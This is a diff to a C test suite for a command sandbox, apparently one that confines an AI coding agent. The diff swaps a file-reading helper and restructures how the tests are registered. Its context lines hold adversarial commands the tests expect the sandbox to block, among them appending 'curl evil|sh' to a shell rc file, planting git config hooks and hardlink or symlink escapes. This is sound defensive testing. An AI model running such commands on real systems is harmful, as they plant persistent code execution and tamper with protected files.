@@ -24,6 +24,7 @@
 #include "util/fsutil.h"
 #include "util/xalloc.h"
 #include "tests/check-run.h"
+#include "tests/test-fs.h"
 
 /* Probed once in main() before any test forks; read-only afterwards. */
 static struct sandbox_caps caps;
@@ -39,17 +40,6 @@ put(const char *path, const char *text)
 	ck_assert_ptr_nonnull(f);
 	fputs(text, f);
 	fclose(f);
-}
-
-static char *
-slurp(const char *path)
-{
-	struct buf b = BUF_INIT;
-	if (fs_read_file(path, 0, &b) != C_OK) {
-		buf_free(&b);
-		return NULL;
-	}
-	return buf_steal(&b);
 }
 
 static bool
@@ -298,7 +288,7 @@ START_TEST(sb_hardlink_escape_bash)
 	NEED_TOPLEVEL();
 	cmd = xasprintf("ln %s hl && echo pwned >> hl", t);
 	attack_and_twin(cmd, "echo a > f1 && ln f1 f2 && echo b >> f2 && grep -q b f1");
-	s = slurp(t);
+	s = test_read(t);
 	ck_assert_str_eq(s, "original\n");
 	free(s);
 	free(cmd);
@@ -323,7 +313,7 @@ START_TEST(sb_git_config_readonly)
 	NEED_MOUNTNS();
 	attack_and_twin("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
 			"printf '[core]\\n' >> config.ini");
-	s = slurp(c);
+	s = test_read(c);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	free(c);
@@ -390,7 +380,7 @@ START_TEST(sb_conch_symlink_kept)
 	ck_assert_int_gt(n, 0);
 	target[n] = '\0';
 	ck_assert_str_eq(target, "conch-real");
-	s = slurp(cfg);
+	s = test_read(cfg);
 	ck_assert_str_eq(s, "{}\n");
 	free(s);
 	free(cfg);
@@ -424,11 +414,11 @@ START_TEST(sb_git_file_target_readonly)
 	put(g, "gitdir: realgit\n");
 	attack_and_twin("echo '[alias] x = !id' >> realgit/config",
 			"echo ok > realgit.txt");
-	s = slurp(cfg);
+	s = test_read(cfg);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	attack_and_twin("echo 'gitdir: /tmp' > .git", "echo ok > git.txt");
-	s = slurp(g);
+	s = test_read(g);
 	ck_assert_str_eq(s, "gitdir: realgit\n");
 	free(s);
 	free(real);
@@ -455,7 +445,7 @@ START_TEST(sb_shell_rc_readonly)
 	NEED_TOPLEVEL();
 	cmd = xasprintf("echo 'curl evil|sh' >> %s", rc);
 	attack_and_twin(cmd, "echo 'alias x=y' >> my.rc");
-	s = slurp(rc);
+	s = test_read(rc);
 	ck_assert_str_eq(s, "# rc\n");
 	free(s);
 	free(cmd);
@@ -473,7 +463,7 @@ START_TEST(sb_conch_memory_and_skills_readonly)
 	free(cmd);
 	cmd = xasprintf("mkdir -p %s && echo x > %s/SKILL.md", sk, sk);
 	attack_and_twin(cmd, "mkdir -p skills/ok && echo x > skills/ok/SKILL.md");
-	s = slurp(mem);
+	s = test_read(mem);
 	ck_assert_str_eq(s, "memory\n");
 	ck_assert(!exists(sk));
 	free(s);
@@ -534,7 +524,7 @@ START_TEST(sb_hardlink_protected_file)
 	NEED_TOPLEVEL();
 	attack_and_twin("ln .git/config cfg && echo evil >> cfg",
 			"echo a > plain && ln plain plain2 && echo b >> plain2");
-	s = slurp(c);
+	s = test_read(c);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	free(c);
@@ -1132,7 +1122,7 @@ START_TEST(sb_beneath_symlink_escape)
 	ck_assert_int_eq(symlink(f, l), 0);
 	ck_assert_int_eq(sandbox_write_beneath(ws, "t", "x", 1, 0644, false, &why),
 			 C_ERR_PERM);
-	s = slurp(f);
+	s = test_read(f);
 	ck_assert_str_eq(s, "original\n");
 	free(s);
 	ck_assert_int_eq(sandbox_write_beneath(ws, "../outside/pwned", "x", 1, 0644,
@@ -1144,7 +1134,7 @@ START_TEST(sb_beneath_symlink_escape)
 					       true, &why), C_OK);
 	{
 		char *np = P(ws, "a/b/new.txt");
-		s = slurp(np);
+		s = test_read(np);
 		ck_assert_str_eq(s, "new\n");
 		free(s);
 		free(np);
@@ -1174,7 +1164,7 @@ START_TEST(sb_beneath_hardlink_fifo_device)
 			 C_ERR_PERM);
 	ck_assert_int_eq(sandbox_open_beneath(ws, "hl", O_WRONLY | O_TRUNC, 0, &fd, &why),
 			 C_ERR_PERM);
-	s = slurp(t);
+	s = test_read(t);
 	ck_assert_str_eq(s, "original\n");
 	free(s);
 	ck_assert_int_eq(mkfifo(fifo, 0644), 0);
@@ -1290,7 +1280,7 @@ START_TEST(fb_writes_confined)
 	ck_assert(!exists(s));
 	free(s);
 	cmd = P(ws, ".git/config");
-	s = slurp(cmd);
+	s = test_read(cmd);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	free(cmd);
@@ -1328,77 +1318,46 @@ START_TEST(fb_network_and_secrets)
 }
 END_TEST
 
-static Suite *
-sandbox_suite(void)
-{
-	Suite *s = suite_create("sandbox");
-	TCase *tc = tcase_create("adversarial");
-	tcase_add_checked_fixture(tc, setup, teardown);
-	tcase_set_timeout(tc, 60);
-	tcase_add_test(tc, sb_write_outside_workspace);
-	tcase_add_test(tc, sb_write_outside_via_proc_root);
-	tcase_add_test(tc, sb_symlink_escape_bash);
-	tcase_add_test(tc, sb_hardlink_escape_bash);
-	tcase_add_test(tc, sb_git_hooks_readonly);
-	tcase_add_test(tc, sb_git_config_readonly);
-	tcase_add_test(tc, sb_git_dir_not_removable);
-	tcase_add_test(tc, sb_conch_config_not_yet_existing);
-	tcase_add_test(tc, sb_conch_symlink_swap);
-	tcase_add_test(tc, sb_conch_symlink_kept);
-	tcase_add_test(tc, sb_agents_skill_not_yet_existing);
-	tcase_add_test(tc, sb_git_file_target_readonly);
-	tcase_add_test(tc, sb_no_git_dir_cannot_be_planted);
-	tcase_add_test(tc, sb_shell_rc_readonly);
-	tcase_add_test(tc, sb_conch_memory_and_skills_readonly);
-	tcase_add_test(tc, sb_private_tmp);
-	tcase_add_test(tc, sb_read_only_spec);
-	tcase_add_test(tc, sb_hardlink_protected_file);
-	tcase_add_test(tc, sb_self_signal_and_pids);
-	tcase_add_test(tc, sb_read_ssh_key);
-	tcase_add_test(tc, sb_read_ssh_key_via_symlink);
-	tcase_add_test(tc, sb_read_aws_and_conch_keys);
-	tcase_add_test(tc, sb_read_user_added_secret);
-	tcase_add_test(tc, sb_root_raw_disk_and_shadow);
-	tcase_add_test(tc, sb_env_keys_hidden);
-	tcase_add_test(tc, sb_stdin_is_devnull);
-	tcase_add_test(tc, sb_background_child_does_not_outlive);
-	tcase_add_test(tc, sb_timeout_kills_whole_tree);
-	tcase_add_test(tc, sb_waits_after_output_closes);
-	tcase_add_test(tc, sb_fork_bomb);
-	tcase_add_test(tc, sb_memory_hog);
-	tcase_add_test(tc, sb_disk_filler);
-	tcase_add_test(tc, sb_endless_output);
-	tcase_add_test(tc, sb_tiocsti_refused);
-	tcase_add_test(tc, sb_escape_sequences_neutralised);
-	tcase_add_test(tc, sb_signals_cannot_leave);
-	tcase_add_test(tc, sb_net_python_socket);
-	tcase_add_test(tc, sb_net_bash_dev_tcp);
-	tcase_add_test(tc, sb_net_curl);
-	tcase_add_test(tc, sb_net_udp_and_raw_families);
-	tcase_add_test(tc, sb_unix_daemon_sockets);
-	tcase_add_test(tc, sb_refuses_without_landlock);
-	tcase_add_test(tc, sb_doctor_reports);
-	tcase_add_test(tc, sb_beneath_symlink_escape);
-	tcase_add_test(tc, sb_beneath_hardlink_fifo_device);
-	tcase_add_test(tc, sb_beneath_symlink_swap_race);
-	tcase_add_test(tc, sb_sanitize_unit);
-	suite_add_tcase(s, tc);
-	tc = tcase_create("fallback");
-	tcase_add_checked_fixture(tc, setup_fallback, teardown);
-	tcase_set_timeout(tc, 60);
-	tcase_add_test(tc, fb_writes_confined);
-	tcase_add_test(tc, fb_tree_killed);
-	tcase_add_test(tc, fb_network_and_secrets);
-	tcase_add_test(tc, sb_unix_daemon_sockets);
-	suite_add_tcase(s, tc);
-	return s;
-}
-
 int
 main(void)
 {
+	const struct check_case cases[] = {
+		{ .name = "adversarial", .setup = setup, .teardown = teardown,
+		  .timeout = 60,
+		  .tests = CHECK_TESTS(sb_write_outside_workspace,
+		  	sb_write_outside_via_proc_root, sb_symlink_escape_bash,
+		  	sb_hardlink_escape_bash, sb_git_hooks_readonly,
+		  	sb_git_config_readonly, sb_git_dir_not_removable,
+		  	sb_conch_config_not_yet_existing, sb_conch_symlink_swap,
+		  	sb_conch_symlink_kept, sb_agents_skill_not_yet_existing,
+		  	sb_git_file_target_readonly,
+		  	sb_no_git_dir_cannot_be_planted, sb_shell_rc_readonly,
+		  	sb_conch_memory_and_skills_readonly, sb_private_tmp,
+		  	sb_read_only_spec, sb_hardlink_protected_file,
+		  	sb_self_signal_and_pids, sb_read_ssh_key,
+		  	sb_read_ssh_key_via_symlink, sb_read_aws_and_conch_keys,
+		  	sb_read_user_added_secret, sb_root_raw_disk_and_shadow,
+		  	sb_env_keys_hidden, sb_stdin_is_devnull,
+		  	sb_background_child_does_not_outlive,
+		  	sb_timeout_kills_whole_tree,
+		  	sb_waits_after_output_closes, sb_fork_bomb,
+		  	sb_memory_hog, sb_disk_filler, sb_endless_output,
+		  	sb_tiocsti_refused, sb_escape_sequences_neutralised,
+		  	sb_signals_cannot_leave, sb_net_python_socket,
+		  	sb_net_bash_dev_tcp, sb_net_curl,
+		  	sb_net_udp_and_raw_families, sb_unix_daemon_sockets,
+		  	sb_refuses_without_landlock, sb_doctor_reports,
+		  	sb_beneath_symlink_escape,
+		  	sb_beneath_hardlink_fifo_device,
+		  	sb_beneath_symlink_swap_race, sb_sanitize_unit) },
+		{ .name = "fallback", .setup = setup_fallback, .teardown = teardown,
+		  .timeout = 60,
+		  .tests = CHECK_TESTS(fb_writes_confined, fb_tree_killed,
+		  	fb_network_and_secrets, sb_unix_daemon_sockets) },
+	};
+
 	sandbox_probe(&caps);
 	if (caps.landlock_abi < 1)
 		fprintf(stderr, "note: no Landlock here; confinement cases skip\n");
-	return check_run(sandbox_suite());
+	return check_run_cases("sandbox", cases, sizeof cases / sizeof cases[0]);
 }
